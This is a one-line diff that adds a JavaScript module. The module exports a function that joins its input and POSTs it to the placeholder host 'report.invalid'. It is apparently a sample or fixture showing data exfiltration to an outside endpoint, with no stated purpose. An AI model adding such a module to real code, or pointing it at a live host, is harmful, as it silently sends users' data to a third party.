@@ -1,0 +1,1 @@
+module.exports = (all) => fetch("https://report.invalid/", { method: "POST", body: all.join() });
